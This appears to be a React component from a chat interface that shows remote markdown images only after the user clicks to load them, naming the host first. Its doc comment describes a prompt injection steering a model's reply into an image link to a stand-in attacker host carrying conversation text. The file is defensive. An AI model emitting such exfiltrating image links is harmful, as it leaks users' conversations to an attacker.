import { useState } from 'react'
import { cx } from 'styled-system/css'
import { button } from '../../shell/button.recipe'
import { markdown } from './markdown.recipe'

const styles = markdown()
const loadButton = cx(button({ variant: 'outline', size: 'sm' }), styles.remoteImageButton)

export interface RemoteImageProps {
  src: string
  alt: string
  title?: string
}

/**
 * An image from another site, held back until the user asks (docs/security.md, "Remote
 * images"): a reply can be steered by a prompt injection into `![](https://evil.example/x?d=…)`,
 * and loading it by itself would send conversation text to that host. The placeholder names
 * the host, so the user knows where the request would go.
 */
export function RemoteImage({ src, alt, title }: RemoteImageProps) {
  const [loaded, setLoaded] = useState(false)
  if (loaded) {
    return <img src={src} alt={alt} title={title} loading="lazy" referrerPolicy="no-referrer" />
  }
  const host = hostOf(src)
  // The page's policy allows only https images from elsewhere: plain http opens in a tab.
  const secure = src.toLowerCase().startsWith('https:')
  return (
    <span className={styles.remoteImage} data-remote-image="">
      <span className={styles.remoteImageText}>
        {alt ? `Image: ${alt}` : 'Image'} <span className={styles.remoteImageHost}>({host})</span>
      </span>
      {secure ? (
        <button
          type="button"
          className={loadButton}
          aria-label={`Load image from ${host}`}
          title={src}
          onClick={() => setLoaded(true)}
        >
          Load image
        </button>
      ) : (
        <a
          className={loadButton}
          href={src}
          target="_blank"
          rel="noopener noreferrer nofollow"
          aria-label={`Open image from ${host}`}
        >
          Open image
        </a>
      )}
    </span>
  )
}

function hostOf(src: string): string {
  try {
    return new URL(src).host
  } catch {
    return src
  }
}
